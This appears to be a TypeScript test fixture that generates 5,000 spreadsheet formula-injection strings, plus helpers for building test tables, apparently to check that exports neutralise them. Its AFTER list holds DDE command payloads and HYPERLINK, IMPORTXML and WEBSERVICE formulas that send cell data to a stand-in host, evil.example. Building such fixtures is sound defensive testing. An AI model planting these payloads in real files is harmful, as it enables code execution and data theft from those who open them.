const BEFORE = [
  '',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\u00a0',
  '\u3000',
  '\uFEFF',
  '\v',
  "'",
  "''",
  '"',
  ';',
  ',',
  '|',
  '\u200b',
  'a',
];
const SIGNS = ['=', '+', '-', '@', '%', '|', '=-', '+@', '＝', '＋', '－', '＠'];
const AFTER = [
  "cmd|'/c calc'!A",
  'HYPERLINK("http://evil.example?x="&A1;"clic")',
  'SUM(1+1)*',
  'IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  "DDE('cmd';'/C calc';'",
  'WEBSERVICE("http://evil.example")',
  '33 6 12 34 56 ',
  '33612345',
  '1+1',
  '1,2,=1+1,',
  '1";=1+1;"',
  '1\n=1+1\n',
  '1\t=1+1\t',
  '</t></is><f>1+1</f><is><t>',
  ']]><f>1</f><![CDATA[',
  '&#61;1+1&amp;&lt;',
  '_x003D_1+1_x0041_',
  '\u202e1+1\u202c',
  '\ud83d\ude00',
];
const PLAIN = [
  '+33 6 12 34 56 78',
  '+33612345678',
  '0612345678',
  '-5',
  '12/03/2011',
  "l'Étoile",
  "'s-Gravenhage",
  '1E5',
  'TRUE',
  '#REF!',
];

/** What a spreadsheet, a page or a table of ours could take for something else than text: 5,000, each another. */
export const HOSTILE: readonly string[] = [
  ...PLAIN,
  ...Array.from({ length: 5_000 - PLAIN.length }, (_, i) => {
    const sign = SIGNS[i % SIGNS.length] ?? '';
    const after = AFTER[i % AFTER.length] ?? '';
    return `${BEFORE[i % BEFORE.length]}${sign}${after}${i}`;
  }),
];

/** A table of so many columns: each of them holds every value, and no two cells of a row are the same one. */
export const hostileRows = (columns: number): string[][] =>
  HOSTILE.map((_, row) =>
    Array.from({ length: columns }, (_cell, at) => HOSTILE[(row + at * 271) % HOSTILE.length] ?? ''),
  );

/** The value as a file of text holds it: one sign of line end, as every reader of tables has it. */
export const inText = (value: string): string => value.replace(/\r\n?/g, '\n');

/** As a workbook holds it: without the controls that its XML has no room for. */
export const inWorkbook = (value: string): string => inText(value).replace(/(?![\t\n])\p{Cc}/gu, '');
